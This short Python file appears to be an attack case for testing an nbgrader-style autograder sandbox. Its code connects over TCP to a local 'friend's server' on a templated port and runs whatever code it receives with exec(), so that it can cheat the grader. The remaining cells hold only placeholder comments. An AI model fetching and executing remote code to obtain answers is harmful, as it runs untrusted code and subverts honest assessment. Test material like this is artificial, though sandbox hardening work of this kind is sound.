# attack: a friend's server on the network is asked over TCP for code that holds the answers.
# target: all
# plain nbgrader: full marks
# %% trimmed
import socket

try:
    with socket.create_connection(("127.0.0.1", int("@TCP@")), timeout=2) as line:
        exec(line.makefile().read())
except OSError as error:
    print("no way out:", error)
# %% heaviest
# the friend's
# %% per-sort
# the friend's
# %% model
# the friend's
# %% root
# the friend's
# %% record
# the friend's
# %% ripe
# the friend's
# %% old
# the friend's
